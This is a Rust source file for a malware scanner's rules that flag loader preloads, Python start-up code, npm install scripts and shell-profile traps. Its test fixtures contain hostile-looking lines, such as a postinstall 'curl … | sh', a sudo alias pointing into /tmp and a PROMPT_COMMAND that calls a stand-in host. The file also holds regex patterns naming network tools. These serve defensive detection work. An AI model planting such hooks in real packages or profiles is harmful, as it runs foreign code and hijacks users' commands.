//! Places where code is loaded without anybody naming it: the loader, Python's start, npm's
//! install scripts, traps in shell profiles.
//!
//! Followed: ld.so(8), Python's `site` module, npm "scripts", bash(1).

use std::sync::LazyLock;

use regex::bytes::Regex;
use seaworthy_core::{MalwareBasis, Meta, Severity, StarterKind};
use serde_json::Value;

use super::rule::{HeuristicRule, Scope, text};
use super::text::{lossy, offset, pattern};
use super::{FileFacts, Seen, remote, shell, starters};

/// Loaded into every program.
pub(super) const PRELOAD_FILE: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "preload-file",
        revision: 1,
        summary: "library that the loader puts into every program",
        references: &["https://man7.org/linux/man-pages/man8/ld.so.8.html"],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1574.006",
    scope: Scope::File,
    advice: "set `LD_PRELOAD` for the one program that needs the library",
    positive: &[text("etc/ld.so.preload", "/usr/lib/libx.so\n")],
    negative: &[
        text("etc/ld.so.preload", "# nothing\n\n"),
        text("etc/ld.so.conf", "/usr/local/lib\n"),
    ],
};

/// A variable of the loader in a file that starts things.
pub(super) const PRELOAD_VARIABLE: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "preload-variable",
        revision: 1,
        summary: "start-up file that sets a variable of the loader",
        references: &["https://man7.org/linux/man-pages/man8/ld.so.8.html"],
    },
    severity: Severity::Low,
    basis: MalwareBasis::Behaviour,
    attack: "T1574.006",
    scope: Scope::File,
    advice: "set the variable for the one program that needs the library",
    positive: &[
        text("etc/profile.d/x.sh", "export LD_PRELOAD=/tmp/.x.so\n"),
        text("etc/environment", "LD_AUDIT=/opt/x.so\n"),
    ],
    negative: &[text(
        "etc/profile.d/x.sh",
        "# LD_PRELOAD=/x.so\nunset LD_PRELOAD\nexport LD_PRELOAD=\n",
    )],
};

/// Code that Python runs whenever it starts.
pub(super) const PYTHON_START: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "python-start-up-code",
        revision: 1,
        summary: "code that every Python program runs and that hides or reaches out",
        references: &["https://docs.python.org/3/library/site.html"],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1546.018",
    scope: Scope::File,
    advice: "remove the file, and the package that brought it",
    positive: &[
        text(
            "usr/lib/python3/dist-packages/x.pth",
            "import os,base64;exec(base64.b64decode('cHJpbnQ='))\n",
        ),
        text(
            "usr/lib/python3/sitecustomize.py",
            "import subprocess\nsubprocess.Popen(['/bin/sh','-c','curl x.example'])\n",
        ),
    ],
    negative: &[
        text(
            "usr/lib/python3/dist-packages/distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",
        ),
        text(
            "usr/lib/python3/sitecustomize.py",
            "# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n",
        ),
    ],
};

/// Install scripts of npm packages.
pub(super) const NPM_INSTALL: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "npm-install-script",
        revision: 1,
        summary: "npm package whose installation runs a download or hidden code",
        references: &["https://docs.npmjs.com/cli/using-npm/scripts"],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1195.002",
    scope: Scope::File,
    advice: "install with `npm ci --ignore-scripts` and remove the package",
    positive: &[text(
        "app/node_modules/x/package.json",
        r#"{"name":"x","scripts":{"postinstall":"curl -s http://a.example.com/x | sh"}}"#,
    )],
    negative: &[text(
        "app/node_modules/y/package.json",
        r#"{"name":"y","scripts":{"install":"node-gyp rebuild","test":"curl http://a.example.com | sh","postinstall":"node scripts/postinstall.js"}}"#,
    )],
};

/// Commands of people that a profile bends.
pub(super) const SHELL_TRAP: HeuristicRule = HeuristicRule {
    meta: Meta {
        id: "shell-trap",
        revision: 1,
        summary: "shell profile that bends commands to hidden or temporary programs",
        references: &["https://attack.mitre.org/techniques/T1546/004/"],
    },
    severity: Severity::High,
    basis: MalwareBasis::Behaviour,
    attack: "T1546.004",
    scope: Scope::File,
    advice: "restore the profile from its package or from /etc/skel",
    positive: &[
        text("root/.bashrc", "alias sudo='/tmp/.s/sudo'\n"),
        text(
            "etc/profile.d/x.sh",
            "export PROMPT_COMMAND='curl -s http://a.example.com/$USER'\n",
        ),
    ],
    negative: &[
        text(
            "root/.bashrc",
            "alias ll='ls -l'\nalias rm='rm -i'\nPROMPT_COMMAND='history -a'\n",
        ),
        text(
            "etc/profile.d/y.sh",
            "PROMPT_COMMAND=\"__vte_prompt_command\"\n",
        ),
    ],
};

pub(super) fn is_pth(name: &str) -> bool {
    name.ends_with(".pth")
}

/// Looks at hooks by their names.
pub(super) fn examine(file: &FileFacts<'_>, bytes: &[u8], seen: &mut Seen<'_>) {
    let path = file.path.as_str();
    match path {
        "etc/ld.so.preload" => {
            let text = lossy(bytes);
            let names: Vec<&str> = text
                .lines()
                .map(|line| line.split('#').next().unwrap_or_default())
                .flat_map(|line| line.split([' ', '\t', ':']))
                .filter(|word| !word.is_empty())
                .collect();
            if !names.is_empty() {
                seen.add(
                    &PRELOAD_FILE,
                    None,
                    format!("{} named", libraries(names.len())),
                );
            }
        }
        "etc/environment" => variables(bytes, seen),
        _ => {}
    }
    match starters::kind(file) {
        Some(StarterKind::ShellProfile) => {
            variables(bytes, seen);
            trap(bytes, seen);
        }
        Some(StarterKind::Systemd | StarterKind::Init | StarterKind::Cron) => {
            variables(bytes, seen)
        }
        _ => {}
    }
    examine_inner(file, bytes, seen);
}

/// Looks at hooks that count in archives too: what gets unpacked gets installed.
pub(super) fn examine_inner(file: &FileFacts<'_>, bytes: &[u8], seen: &mut Seen<'_>) {
    let name = file.name();
    if is_pth(name) || matches!(name, "sitecustomize.py" | "usercustomize.py") {
        python(name, bytes, seen);
    } else if name == "package.json" {
        npm(bytes, seen);
    }
}

fn libraries(count: usize) -> String {
    if count == 1 {
        "1 library".to_owned()
    } else {
        format!("{count} libraries")
    }
}

static VARIABLE: LazyLock<Regex> = LazyLock::new(|| {
    pattern(r#"(?m)^[^#\n]*?\b(LD_PRELOAD|LD_AUDIT|GCONV_PATH)["']?=["']?[/\w.$]"#)
});

fn variables(bytes: &[u8], seen: &mut Seen<'_>) {
    let text = lossy(bytes);
    if let Some(found) = VARIABLE.captures(text.as_bytes())
        && let Some(name) = found.get(1)
    {
        seen.add(
            &PRELOAD_VARIABLE,
            offset(name.start()),
            format!("`{}` is set", String::from_utf8_lossy(name.as_bytes())),
        );
    }
}

static TRAP: LazyLock<[Regex; 2]> = LazyLock::new(|| {
    [
        pattern(
            r#"(?m)^\s*(?:alias\s+(?:sudo|su|ssh|passwd|scp|docker|kubectl|ls|ps|netstat|lsof|top)=|function\s+(?:sudo|su|ssh|passwd)\b)[^\n]{0,200}(?:/tmp/|/dev/shm/|/var/tmp/|/\.\w)"#,
        ),
        pattern(
            r#"(?m)^[^#\n]*\b(?:PROMPT_COMMAND=|trap\s)[^\n]{0,200}\b(?:curl|wget|nc|ncat|base64|/dev/tcp/|/tmp/\.|/dev/shm/)"#,
        ),
    ]
});

fn trap(bytes: &[u8], seen: &mut Seen<'_>) {
    let text = lossy(bytes);
    if let Some(found) = TRAP
        .iter()
        .find_map(|pattern| pattern.find(text.as_bytes()))
    {
        seen.add(
            &SHELL_TRAP,
            offset(found.start()),
            "a command or prompt is bent".to_owned(),
        );
    }
}

static PYTHON: LazyLock<[Regex; 2]> = LazyLock::new(|| {
    [
        // Hides.
        pattern(
            r"\b(?:exec|eval)\s*\(.{0,200}(?:base64|b64decode|zlib|marshal|fromhex|unhexlify|codecs)",
        ),
        // Reaches out or starts a process.
        pattern(
            r"\burlopen\s*\(|\brequests\.(?:get|post)\s*\(|\bsubprocess\.(?:run|Popen|call|check_output)\s*\(|\bos\.(?:system|popen)\s*\(|\bsocket\.socket\s*\(|\bptrace\b",
        ),
    ]
});

fn python(name: &str, bytes: &[u8], seen: &mut Seen<'_>) {
    let text = lossy(bytes);
    let code = if is_pth(name) {
        // Only lines that begin so are run.
        text.lines()
            .filter(|line| line.starts_with("import ") || line.starts_with("import\t"))
            .collect::<Vec<_>>()
            .join("\n")
    } else {
        text.lines()
            .filter(|line| !line.trim_start().starts_with('#'))
            .collect::<Vec<_>>()
            .join("\n")
    };
    let what = match PYTHON
        .each_ref()
        .map(|pattern| pattern.is_match(code.as_bytes()))
    {
        [true, _] => "decodes and runs code",
        [_, true] => "starts a process or opens a connection",
        _ => return,
    };
    seen.add(&PYTHON_START, None, what.to_owned());
}

/// The scripts that run when a package is installed.
pub(super) const INSTALL_SCRIPTS: &[&str] = &["preinstall", "install", "postinstall", "prepare"];

/// The install scripts of a `package.json`.
pub(super) fn npm_scripts(bytes: &[u8]) -> Vec<(String, String)> {
    let quick = bytes.len() < 1 << 18 && memchr::memmem::find(bytes, b"install\"").is_some();
    if !quick {
        return Vec::new();
    }
    let Ok(value) = serde_json::from_slice::<Value>(bytes) else {
        return Vec::new();
    };
    INSTALL_SCRIPTS
        .iter()
        .filter_map(|name| {
            let line = value.get("scripts")?.get(name)?.as_str()?;
            Some(((*name).to_owned(), line.to_owned()))
        })
        .collect()
}

fn npm(bytes: &[u8], seen: &mut Seen<'_>) {
    for (name, line) in npm_scripts(bytes) {
        if name == "prepare" {
            continue;
        }
        let commands = shell::parse(&line);
        let how = shell::runs_foreign_code(&commands)
            .map(|(_, how)| how)
            .or_else(|| remote::network_shell(&commands).map(str::to_owned));
        if let Some(how) = how {
            seen.add(&NPM_INSTALL, None, format!("`{name}`: {how}"));
        }
    }
}
